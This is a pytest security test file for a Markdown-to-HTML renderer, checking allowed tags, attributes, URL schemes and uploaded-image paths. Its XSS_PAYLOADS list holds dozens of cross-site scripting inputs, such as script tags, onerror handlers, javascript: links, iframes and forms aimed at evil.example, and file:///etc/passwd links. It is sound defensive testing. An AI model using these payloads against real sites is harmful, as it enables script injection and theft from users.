"""User Markdown renders to HTML with nothing executable or foreign left in it."""

from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from app.core.markdown import UPLOADED_IMAGE_PATH, is_uploaded_image, render_markdown

SHA = "0123456789abcdef" * 4
IMAGE = f"/projects/ACME/bulletins/images/{SHA}"

ALLOWED_TAGS = {
    "p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6", "em", "strong", "s", "del",
    "code", "pre", "blockquote", "ul", "ol", "li", "a", "img",
    "table", "thead", "tbody", "tr", "th", "td",
}  # fmt: skip
ALLOWED_ATTRIBUTES = {
    "a": {"href", "title", "rel"},
    "img": {"src", "alt", "title"},
    "ol": {"start"},
    "th": {"class"},
    "td": {"class"},
}


class _Elements(HTMLParser):
    """Every start tag with its attributes, as a browser's parser would see them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, {name: value or "" for name, value in attrs}))


def elements(html: str) -> list[tuple[str, dict[str, str]]]:
    parser = _Elements()
    parser.feed(html)
    parser.close()
    return parser.elements


def assert_safe(html: str) -> None:
    for tag, attrs in elements(html):
        assert tag in ALLOWED_TAGS, (tag, html)
        assert set(attrs) <= ALLOWED_ATTRIBUTES.get(tag, set()), (tag, attrs, html)
        if "href" in attrs:
            href = attrs["href"].strip().lower()
            scheme = href.split(":", 1)[0] if ":" in href.split("/", 1)[0] else ""
            assert scheme in ("", "http", "https", "mailto"), html
        if tag == "img":
            assert UPLOADED_IMAGE_PATH.fullmatch(attrs.get("src", "")), html


XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    "<svg onload=alert(1)><circle r=1 /></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<form action="https://evil.example"><input name=q><button>Go</button></form>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<p style="position:fixed;inset:0">cover</p>',
    "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=attachment href=file:///etc/passwd>",
    '<base href="https://evil.example/">',
    '<meta http-equiv=refresh content="0;url=https://evil.example">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "<<script>script>alert(1)<</script>/script>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](  javascript:alert(1)  )",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x][ref]\n\n[ref]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    "![x](javascript:alert(1))",
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "![x](file:///etc/passwd)",
    "![x](https://evil.example/track.png)",
    "![x](//evil.example/projects/ACME/bulletins/images/" + SHA + ")",
    "![x](http://127.0.0.1:8000/projects/ACME/bulletins/images/" + SHA + ")",
    "![x](/projects/ACME/bulletins/images/" + SHA + "/../../../../etc/passwd)",
    "![x](/projects/ACME/bulletins/images/" + SHA.upper() + ")",
    "![x](/projects/ACME/bulletins/images/" + SHA + "?x=1)",
    "![x](/projects/../bulletins/images/" + SHA + ")",
    '![x" onerror="alert(1)](' + IMAGE + ")",
    "![x](" + IMAGE + ' "t\\" onerror=\\"alert(1)")',
    '[x](https://example.com "a\\" onmouseover=\\"alert(1)")',
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |",
    "```html\n<script>alert(1)</script>\n```",
    "`<img src=x onerror=alert(1)>`",
    "> <iframe src=x></iframe>",
    "* [x](javascript:alert(1))\n* ![y](https://evil.example/y.png)",
]


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_xss_payload_leaves_nothing_executable(payload):
    html = render_markdown(payload)
    assert_safe(html)
    lowered = html.lower()
    for marker in ("<script", "<iframe", "<svg", "<form", "<style", "<link", "<base", "<meta"):
        assert marker not in lowered


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_xss_payload_has_no_live_attributes(payload):
    for _tag, attrs in elements(render_markdown(payload)):
        assert not any(name.startswith("on") for name in attrs)
        assert "style" not in attrs


def test_raw_html_is_shown_as_text_not_markup():
    html = render_markdown("Hello <b>world</b> <script>alert(1)</script>")
    assert "&lt;b&gt;world&lt;/b&gt;" in html
    assert [tag for tag, _ in elements(html)] == ["p"]


def test_markdown_features_survive():
    text = (
        "# Phase status\n\n"
        "Some *emphasis*, **strong**, ~~struck~~ and `code`.\n\n"
        "1. first\n2. second\n\n"
        "- item\n\n"
        "> quoted\n\n"
        "| Phase | Done |\n|:--|--:|\n| Design | 80% |\n\n"
        "[Vendor site](https://vendor.example/docs) and [mail](mailto:pm@example.com)\n\n"
        f'![Org chart]({IMAGE} "Team")\n'
    )
    found = elements(render_markdown(text, project_code="ACME", top_heading_level=3))
    tags = [tag for tag, _ in found]
    for tag in ("h3", "em", "strong", "s", "code", "ol", "ul", "li", "blockquote",
                "table", "thead", "tbody", "th", "td", "a", "img"):  # fmt: skip
        assert tag in tags, tag
    attrs = dict(reversed(found))  # the first element of each tag wins
    assert attrs["img"] == {"src": IMAGE, "alt": "Org chart", "title": "Team"}
    assert attrs["th"] == {"class": "align-left"}
    assert attrs["a"]["href"] == "https://vendor.example/docs"
    assert attrs["a"]["rel"] == "noopener noreferrer nofollow"


def test_table_alignment_becomes_classes_not_styles():
    html = render_markdown("| a | b | c |\n|:-|:-:|-:|\n| 1 | 2 | 3 |")
    classes = [attrs.get("class") for tag, attrs in elements(html) if tag == "td"]
    assert classes == ["align-left", "align-center", "align-right"]
    assert "style" not in html


@pytest.mark.parametrize(
    ("level", "top", "expected"),
    [(1, 3, "h3"), (2, 3, "h4"), (4, 3, "h6"), (6, 3, "h6"), (1, 1, "h1")],
)
def test_headings_sit_below_bulletin_sections(level, top, expected):
    html = render_markdown("#" * level + " Heading", top_heading_level=top)
    assert elements(html)[0][0] == expected


def test_foreign_image_keeps_its_alt_text():
    html = render_markdown("![Budget chart](https://evil.example/chart.png)")
    assert "Budget chart" in html
    assert "img" not in [tag for tag, _ in elements(html)]


def test_image_of_another_project_is_dropped_when_project_is_given():
    assert "<img" in render_markdown(f"![a]({IMAGE})")
    assert "<img" in render_markdown(f"![a]({IMAGE})", project_code="ACME")
    assert "<img" not in render_markdown(f"![a]({IMAGE})", project_code="OTHER")


@pytest.mark.parametrize(
    ("src", "expected"),
    [
        (IMAGE, True),
        (IMAGE + ".png", False),
        (IMAGE[:-1], False),
        ("https://app.example" + IMAGE, False),
        (f"/projects/-bad/bulletins/images/{SHA}", False),
        (f"/projects/A B/bulletins/images/{SHA}", False),
    ],
)
def test_uploaded_image_pattern(src, expected):
    assert is_uploaded_image(src) is expected


def test_chinese_text_is_kept_verbatim():
    html = render_markdown("## 项目进度\n\n系统上线准备就绪。繁體中文, 導入階段。")
    assert "项目进度" in html
    assert "繁體中文, 導入階段。" in html


MARKUP_HEAVY = st.text(alphabet="<>\"'=/:;&#()[]!`*_|-\n abcjsvriptonerolad", max_size=200)


@settings(max_examples=300, deadline=None)
@given(MARKUP_HEAVY | st.text(max_size=200))
def test_any_text_renders_safe(text):
    assert_safe(render_markdown(text))
